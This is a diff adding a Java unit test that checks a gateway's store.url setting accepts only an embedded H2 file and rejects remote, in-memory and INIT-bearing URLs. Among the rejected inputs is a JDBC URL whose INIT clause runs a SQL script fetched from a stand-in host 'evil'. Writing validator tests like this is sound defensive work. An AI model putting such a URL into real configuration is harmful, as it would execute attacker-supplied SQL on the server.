@@ -51,4 +51,28 @@ class SettingsTest {
         assertThatThrownBy(() -> Settings.duration("-5s")).isInstanceOf(IllegalArgumentException.class);
         assertThatThrownBy(() -> Settings.bytes("0")).isInstanceOf(IllegalArgumentException.class);
     }
+
+    @Test
+    void storeUrlAcceptsOnlyAnEmbeddedH2File() {
+        for (String bad : new String[] {"jdbc:h2:file:/var/lib/egw/data/keystore;AUTO_SERVER=1",
+                "jdbc:h2:file:/var/lib/egw/data/keystore;AUTO_SERVER=ON", "jdbc:h2:tcp://10.0.0.1/keystore",
+                "jdbc:h2:file:/var/lib/egw/data/keystore;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+                "jdbc:h2:mem:keystore"}) {
+            Properties file = new Properties();
+            file.setProperty("store.url", bad);
+            assertThatThrownBy(() -> Settings.load(Settings.CORE, file, Map.of())).as(bad)
+                    .isInstanceOf(ConfigException.class)
+                    .hasMessageContaining("bad value for store.url (from gateway.properties)")
+                    .hasMessageNotContaining("RUNSCRIPT");
+        }
+        assertThatThrownBy(() -> Settings.load(Settings.CORE, new Properties(),
+                Map.of("EGW_STORE_URL", "jdbc:h2:file:/srv/keystore;INIT=SELECT 1")))
+                .isInstanceOf(ConfigException.class).hasMessageContaining("EGW_STORE_URL")
+                .hasMessageContaining("setting 'INIT' is not allowed");
+        Properties ok = new Properties();
+        ok.setProperty("store.url", "jdbc:h2:file:/srv/egw/keystore;LOCK_TIMEOUT=20000");
+        assertThat(Settings.load(Settings.CORE, ok, Map.of()).get(Settings.STORE_URL))
+                .isEqualTo("jdbc:h2:file:/srv/egw/keystore;LOCK_TIMEOUT=20000");
+        assertThat(Settings.load(Settings.CORE, new Properties(), Map.of()).get(Settings.STORE_URL)).isEmpty();
+    }
 }
